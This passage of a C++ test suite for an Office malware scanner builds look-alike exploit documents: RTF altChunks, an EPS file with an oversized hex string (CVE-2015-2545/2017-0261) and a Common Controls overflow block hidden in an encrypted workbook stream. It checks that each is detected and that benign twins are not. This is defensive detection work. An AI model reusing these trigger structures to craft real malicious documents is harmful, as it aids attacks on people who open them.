  const auto s = featurize(docx_with_chunk("word/afchunk.rtf", "/word/afchunk.rtf", rtf));
  ASSERT_EQ(s.embedded.size(), 1u);
  EXPECT_EQ(s.embedded[0].name, "word/afchunk.rtf");
  EXPECT_EQ(std::string(s.embedded[0].bytes.begin(), s.embedded[0].bytes.end()), rtf);
  const auto image = featurize(docx_with_chunk("word/media/a.png", "/word/afchunk.rtf", rtf));  // same name length
  EXPECT_TRUE(image.embedded.empty());
  ASSERT_EQ(s.x.size(), image.x.size());
  for (std::size_t i = 0; i < s.x.size(); ++i)
    EXPECT_TRUE(s.x[i] == image.x[i] || (std::isnan(s.x[i]) && std::isnan(image.x[i]))) << features::office_schema().features[i].name;
  // A chunk under any name, found through its relationship only, and after the relationships part in the zip.
  const auto odd = featurize(docx_with_chunk("word/gxq17.bin", "gxq17.bin", rtf, false));
  ASSERT_EQ(odd.embedded.size(), 1u);
  EXPECT_EQ(odd.embedded[0].name, "word/gxq17.bin");
  const auto up = featurize(docx_with_chunk("word/gxq17.bin", "../word/./gxq17.bin", rtf));
  EXPECT_EQ(up.embedded.size(), 1u);
  // An external aFChunk target is not a part of the package: nothing to scan.
  EXPECT_TRUE(featurize(docx_with_chunk("word/media/a.png", "http://203.0.113.9/a.rtf", rtf)).embedded.empty());

  auto sc = office_scanner();
  if (!sc) GTEST_SKIP() << "models/office not found";
  const auto doc = docx_with_chunk("word/afchunk.rtf", "/word/afchunk.rtf", rtf);
  const auto r = sc->scan_bytes(ByteView(doc.data(), doc.size()), "lure.docx");
  EXPECT_EQ(r.verdict, engine::Verdict::malicious) << r.signature;
  bool named = false;
  for (const auto& m : r.members)
    for (const auto& [k, v] : m.context) named |= m.path == "lure.docx!word/afchunk.rtf" && k == "rule" && v == "rtf-exploit-object";
  EXPECT_TRUE(named);
}

// What generators of reports do with altChunk: import an HTML or RTF body with text and a table. Scanned, not named.
TEST(OfficeRules, PlainAltChunksAreNotNamed) {
  auto sc = office_scanner();
  if (!sc) GTEST_SKIP() << "models/office not found";
  const std::string rtf = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0\\fs22 Quarterly report\\par{\\b Totals}\\par}";
  const std::string html = "<html><body><h1>Report</h1><table><tr><td>Q3</td><td>1,204</td></tr></table></body></html>";
  for (const auto& [part, body] : {std::pair<std::string, std::string>{"word/afchunk.rtf", rtf}, {"word/afchunk1.htm", html}}) {
    const auto doc = docx_with_chunk(part, part.substr(5), body);
    const auto r = sc->scan_bytes(ByteView(doc.data(), doc.size()), "report.docx");
    EXPECT_NE(r.verdict, engine::Verdict::malicious) << part << " " << r.signature;
    ASSERT_EQ(r.members.size(), 1u) << part;
    EXPECT_NE(r.members[0].verdict, engine::Verdict::malicious) << part;
  }
}

// A docx with `eps` as word/media/image1.eps.
std::vector<std::uint8_t> docx_with_eps(const std::string& eps, const std::string& part = "word/media/image1.eps") {
  return make_zip({{"[Content_Types].xml", blob(kWordContentTypes)},
                   {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>")},
                   {part, blob(eps)}});
}

std::string hex_digits(std::size_t bytes, std::size_t per_line) {
  static const char* d = "0123456789abcdef";
  std::string s;
  for (std::size_t i = 0; i < bytes; ++i) {
    s += d[(i * 7) & 15];
    s += d[(i * 13 + 5) & 15];
    if (per_line && (i + 1) % per_line == 0) s += '\n';
  }
  return s;
}

// CVE-2015-2545 / CVE-2017-0261: the EPS program carries its payload as one hex string literal longer than any
// PostScript interpreter accepts (65,535 bytes). The look-alikes: an image whose data is read with readhexstring
// (1 MB of hex after the program, no literal), a literal of 60,000 bytes, and hex digits inside a comment and a
// literal string.
TEST(OfficeRules, EpsWithAnOversizedHexString) {
  const std::string head = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n";
  const std::string exploit = head + "/s <" + hex_digits(70000, 32) + "> def\ns 0 1 putinterval\n%%EOF\n";
  const auto bad = featurize(docx_with_eps(exploit));
  EXPECT_EQ(bad.structural_rule, "eps-oversized-string");
  // The same bytes under an image name of the same length: not read, not named, and the same vector (a structural
  // rule leaves the features, and so the shipped model's scores, alone).
  const auto png = featurize(docx_with_eps(exploit, "word/media/image1.png"));
  EXPECT_EQ(png.structural_rule, "");
  ASSERT_EQ(bad.x.size(), png.x.size());
  for (std::size_t i = 0; i < bad.x.size(); ++i)
    EXPECT_TRUE(bad.x[i] == png.x[i] || (std::isnan(bad.x[i]) && std::isnan(png.x[i]))) << features::office_schema().features[i].name;
  const auto image = featurize(docx_with_eps(head + "/pic 300 string def 100 100 8 [1 0 0 1 0 0]\n"
                                             "{currentfile pic readhexstring pop} image\n" + hex_digits(1 << 20, 40) + "\n%%EOF\n"));
  EXPECT_EQ(image.structural_rule, "");
  const auto small = featurize(docx_with_eps(head + "/s <" + hex_digits(60000, 32) + "> def\n%%EOF\n"));
  EXPECT_EQ(small.structural_rule, "");
  const auto quoted = featurize(docx_with_eps(head + "% <" + hex_digits(70000, 0) + ">\n(<" + hex_digits(70000, 0) + ">) pop\n"));
  EXPECT_EQ(quoted.structural_rule, "");
}

// The persisted block of a Windows Common Control ("Cobj", a size, the byte count copied into an 8-byte buffer)
// inside `ctls`, an ActiveX "Ctls" stream's worth of bytes.
std::vector<std::uint8_t> ctls_with_cobj(std::uint32_t copied) {
  std::vector<std::uint8_t> b(48, 0x11);
  const std::uint8_t cobj[12] = {'C', 'o', 'b', 'j', 0x64, 0, 0, 0, static_cast<std::uint8_t>(copied),
                                 static_cast<std::uint8_t>(copied >> 8), 0, 0};
  b.insert(b.end(), cobj, cobj + 12);
  b.resize(b.size() + 64, 0x22);
  return b;
}

// A workbook encrypted with RC4 CryptoAPI and Excel's default password whose "Ctls" stream, as Excel writes it, sits
// inside the "encryption" stream; or, with `in_clear`, an unencrypted workbook with the same stream at the root.
std::vector<std::uint8_t> xls_with_controls(std::uint32_t copied, bool in_clear) {
  BiffSpec s;
  s.sheets.push_back(BiffSheet{});
  s.sheets.back().name = "Sheet1";
  if (!in_clear) s.crypt = BiffCrypt::rc4_cryptoapi;
  const auto wb = build_workbook_stream(s);
  CfbSpec c;
  c.streams.push_back({"Workbook", wb});
  if (in_clear) {
    c.streams.push_back({"Ctls", ctls_with_cobj(copied)});
    return build_cfb(c);
  }
  // The FILEPASS record right after the globals' BOF.
  const ByteView v(wb.data(), wb.size());
  const std::uint64_t at = 4ull + v.le_or<std::uint16_t>(2, 0);
  const auto fp = xls::parse_filepass(v.clamp(at + 4, v.le_or<std::uint16_t>(at + 2, 0)));
  if (!fp) return {};
  std::vector<std::uint8_t> summary(48, 0);
  summary[0] = 0xFE;
  summary[1] = 0xFF;
  c.streams.push_back({"encryption", xls::write_encryption_stream({{"Ctls", ctls_with_cobj(copied)},
                                                                    {"\x05SummaryInformation", summary}},
                                                                   *fp, xls::kDefaultPassword)});
  return build_cfb(c);
}

TEST(OfficeRules, CommonControlOverflowInsideTheEncryptionStream) {
  const auto hidden = featurize(xls_with_controls(0x808, false));
  EXPECT_EQ(hidden.encryption, "biff-rc4_cryptoapi");
  EXPECT_EQ(hidden.structural_rule, "mscomctl-overflow");
  EXPECT_EQ(featurize(xls_with_controls(0x808, true)).structural_rule, "mscomctl-overflow");
  // Twins: the 8 bytes Office writes, hidden or in the clear, are not named.
  EXPECT_EQ(featurize(xls_with_controls(8, false)).structural_rule, "");
  EXPECT_EQ(featurize(xls_with_controls(8, true)).structural_rule, "");
}

TEST(OfficeRules, EncryptionStreamRoundTrip) {
  xls::FilePass fp;
  fp.method = xls::Encryption::rc4_cryptoapi;
  fp.key_bits = 40;
  for (std::size_t k = 0; k < 16; ++k) fp.salt[k] = static_cast<std::uint8_t>(k * 3);
  const std::vector<xls::EncryptedStream> in = {{"Ctls", ctls_with_cobj(8)}, {"Other", {1, 2, 3}}};
  const auto enc = xls::write_encryption_stream(in, fp, xls::kDefaultPassword);
  const auto out = xls::decrypt_encryption_stream(ByteView(enc.data(), enc.size()), fp, xls::kDefaultPassword);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].name, "Ctls");
  EXPECT_EQ(out[0].bytes, in[0].bytes);
  EXPECT_EQ(out[1].bytes, in[1].bytes);
  // Another password: the header decrypts to noise, and nothing (or nothing equal) comes out.
  const auto wrong = xls::decrypt_encryption_stream(ByteView(enc.data(), enc.size()), fp, u"secret");
  EXPECT_TRUE(wrong.empty() || wrong[0].bytes != in[0].bytes);
  // RC4 without CryptoAPI has no such stream.
  fp.method = xls::Encryption::rc4;
  EXPECT_TRUE(xls::decrypt_encryption_stream(ByteView(enc.data(), enc.size()), fp, xls::kDefaultPassword).empty());
}

}  // namespace
